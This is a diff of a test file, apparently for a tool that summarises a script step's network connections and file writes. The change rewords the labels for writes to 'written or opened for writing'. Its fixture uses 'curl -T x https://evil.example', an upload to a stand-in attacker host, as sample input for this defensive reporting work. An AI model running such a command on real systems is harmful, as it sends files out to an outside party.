@@ -39,7 +39,7 @@ const DID = [
 test("what a step did is one fold, with what matters most first", () => {
   expect(activitySections(activityOf(DID, [[SCRIPT, "curl -T x https://evil.example"]]), 10_000)).toBe(
     `<details><summary>What each step did: 1 step</summary>
-<details><summary><code>curl -T x https://evil.example</code>: 1 host, 1 name without a connection, 1 place written outside the workspace, 2 programs</summary>
+<details><summary><code>curl -T x https://evil.example</code>: 1 host, 1 name without a connection, 1 place written or opened for writing outside the workspace, 2 programs</summary>
 <p>Connected to</p>
 <ul>
 <li><code>evil.example</code> at <code>203.0.113.9:443</code> by <code>curl</code> (1,200 times)</li>
@@ -48,7 +48,7 @@ test("what a step did is one fold, with what matters most first", () => {
 <ul>
 <li><code>other.example</code> given to a TLS server by <code>curl</code></li>
 </ul>
-<p>Written outside the workspace</p>
+<p>Written, or opened for writing, outside the workspace</p>
 <ul>
 <li><code>/etc/x</code> by <code>curl</code></li>
 <li>below <code>/tmp/x</code> by <code>curl</code></li>
@@ -64,9 +64,9 @@ test("what a step did is one fold, with what matters most first", () => {
 
 test("a terminal has a line for each step, and what it reached and wrote", () => {
   expect(activityLines(activityOf(DID))).toEqual([
-    "Step: the step that first ran curl -T x: 1 host, 1 name without a connection, 1 place written outside the workspace, 2 programs",
+    "Step: curl -T x: 1 host, 1 name without a connection, 1 place written or opened for writing outside the workspace, 2 programs",
     "  connected to evil.example at 203.0.113.9:443 by curl (1,200 times)",
-    "  wrote /etc/x by curl",
+    "  wrote or opened for writing /etc/x by curl",
   ]);
 });
 
